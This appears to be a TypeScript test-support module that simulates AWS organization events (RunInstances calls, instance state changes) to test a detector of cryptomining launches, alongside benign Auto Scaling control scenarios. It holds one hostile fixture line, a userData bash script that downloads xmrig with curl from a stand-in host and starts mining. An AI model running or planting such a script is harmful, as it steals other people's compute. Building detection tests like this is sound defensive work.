/** What happens in the organization, as EventBridge would tell it. */
import { createHash } from 'node:crypto';
import type { Settings } from '../../lambda/model/settings.ts';
import { snapshotRegions } from '../../lib/account/fallback.ts';
import { identities, runInstances, stateChange } from '../../test/support/events.ts';
import type { CloudInstance } from './cloud.ts';
import { assumed } from './limits.ts';
import type { Scenario } from './simulate.ts';

const start = Date.parse('2026-11-20T14:00:00Z');
const minute = 60_000;
const day = 24 * 60 * minute;
const miner =
  '#!/bin/bash\ncurl -sL https://example.com/xmrig.tgz | tar xz\n./xmrig -o stratum+tcp://pool:3333 --donate-level 1\n';

const settings = (changes: Partial<Settings> = {}): Settings => ({
  alertAt: 'notice',
  language: 'en',
  budget: { usdPerHour: 3 },
  allow: [],
  accountNames: {},
  organization: { id: 'o-ab12cdef34', externalId: 'davylamp-o-ab12cdef34', readOnlyRoleName: 'davylamp-reader' },
  ...changes,
});

const accountOf = (n: number): string => String(200_000_000_000 + n);
const idOf = (n: number): string => `i-0${n.toString(16).padStart(16, '0')}`;
const iso = (time: number): string => new Date(time).toISOString().replace(/\.\d+Z$/, 'Z');

interface Launch {
  readonly at: number;
  readonly account: string;
  readonly region: string;
  readonly count: number;
  readonly type: Pick<CloudInstance, 'instanceType' | 'vcpus' | 'usdPerHour'>;
  readonly tags: Readonly<Record<string, string>>;
  readonly userData?: string;
  /** Who CloudTrail names, and from where; undefined: no trail. */
  readonly call?: {
    readonly userIdentity: Record<string, unknown>;
    readonly sourceIp: string;
    /** Milliseconds from the call to the detector's queue. */
    readonly arrives: number;
  };
}

/** A number from 0 to below 1, the same for the same text: no run differs from the next. */
const chanceOf = (text: string): number => createHash('sha256').update(text).digest().readUInt32BE(0) / 2 ** 32;

/** Each launch is one RunInstances call and, for each instance, `pending` and `running`. */
function scenarioOf(title: string, launches: readonly Launch[], inForce: Settings): Scenario {
  const instances: CloudInstance[] = [];
  const events: { at: number; event: unknown }[] = [];
  launches.forEach(({ at, account, region, count, type, tags, userData, call }, index) => {
    const ids = Array.from({ length: count }, (_, i) => idOf(instances.length + i + 1));
    for (const instanceId of ids) {
      const reservationId = `r-${index.toString(16).padStart(17, '0')}`;
      const place = { account, region, instanceId };
      instances.push({ ...place, ...type, launchTime: at, reservationId, tags, ...(userData && { userData }) });
      for (const [state, time] of [
        ['pending', at],
        ['running', at + assumed.runs],
      ] as const) {
        const id = `${state}-${instanceId}`;
        const late = Math.round(chanceOf(id) * assumed.jitter);
        events.push({
          at: time + assumed.stateChangeArrives + late,
          event: stateChange({ ...place, id, state, time: iso(time) }),
        });
      }
    }
    if (call === undefined) return;
    const { arrives, ...who } = call;
    const event = runInstances({
      ...who,
      account,
      region,
      tags,
      instanceIds: ids,
      instanceType: type.instanceType,
      eventId: `call-${index}`,
      time: iso(at),
    });
    events.push({ at: at + arrives, event });
  });
  return { title, start, events, instances, settings: inForce };
}

const large = { instanceType: 'c5.4xlarge', vcpus: 16, usdPerHour: 0.68 };
const small = { instanceType: 't3.medium', vcpus: 2, usdPerHour: 0.0416 };
const regionOf = (n: number): string => snapshotRegions[n % snapshotRegions.length] as string;

const spread = (count: number, over: number): number[] =>
  Array.from({ length: count }, (_, i) => start + Math.floor((i * over) / count));

/** Milliseconds after which CloudTrail tells; undefined: there is no trail. */
export type Trail = number | undefined;

/** Ten miners in each account within a minute, all from one address with one role's name. */
export const leakedCredential = (title: string, accounts: number, trail: Trail): Scenario =>
  scenarioOf(
    title,
    spread(accounts, minute).map((at, n) => {
      const account = accountOf(n);
      const userIdentity = identities.role('OrganizationAccountAccessRole', 'session', account);
      const launch = { at, account, region: regionOf(n), count: 10, type: large, tags: {}, userData: miner };
      const call = trail === undefined ? undefined : { userIdentity, sourceIp: '203.0.113.7', arrives: trail };
      return { ...launch, ...(call && { call }) };
    }),
    settings(),
  );

/** A hundred calls for ten instances each: RunInstances itself is limited to 5 and then 2 calls a second. */
export const oneAccount = (title: string, instances: number): Scenario =>
  scenarioOf(
    title,
    spread(instances / 10, minute).map((at) => ({
      at,
      account: accountOf(1),
      region: 'eu-west-1',
      count: 10,
      type: large,
      tags: {},
      userData: miner,
      call: {
        userIdentity: identities.user('ci-deploy', accountOf(1)),
        sourceIp: '203.0.113.7',
        arrives: assumed.callArrives,
      },
    })),
    settings(),
  );

/** One miner every twenty minutes: what comes after a mail waits for the next follow-up, four hours long. */
export const slowCampaign = (title: string): Scenario =>
  scenarioOf(
    title,
    Array.from({ length: 12 }, (_, n) => ({
      at: start + n * 20 * minute,
      account: accountOf(1),
      region: 'eu-west-1',
      count: 1,
      type: large,
      tags: {},
      userData: miner,
    })),
    settings(),
  );

/**
 * No attack: a scheduled action of Auto Scaling starts one instance in each account at the same full hour.
 */
export const scheduled = (title: string, accounts: number): Scenario =>
  scenarioOf(
    title,
    spread(accounts, minute).map((at, n) => ({
      at,
      account: accountOf(n),
      region: regionOf(n),
      count: 1,
      type: small,
      tags: { 'aws:autoscaling:groupName': `web-${n}` },
    })),
    settings(),
  );

/** Launches of an account on an ordinary day, made by Auto Scaling. */
const launchesADay = 5;

/** A day on which Auto Scaling launches a few instances in every account, and nobody else does. */
export function quietDay(title: string, accounts: number, isAllowed: boolean): Scenario {
  const call = (account: string) => ({
    userIdentity: identities.serviceRole(undefined, undefined, account),
    sourceIp: 'autoscaling.amazonaws.com',
    arrives: assumed.callArrives,
  });
  const entry = { name: 'auto scaling', tags: { 'aws:autoscaling:groupName': '*' }, reason: 'groups are made by code' };
  const times = spread(accounts * launchesADay, day);
  return scenarioOf(
    title,
    times.map((at, i) => {
      // Coprime to the number of accounts: neighbours in time are different accounts.
      const n = (i * 7) % accounts;
      const account = accountOf(n);
      const tags = { 'aws:autoscaling:groupName': `web-${n}` };
      return { at, account, region: regionOf(n), count: 1, type: small, tags, call: call(account) };
    }),
    settings(isAllowed ? { allow: [entry] } : {}),
  );
}
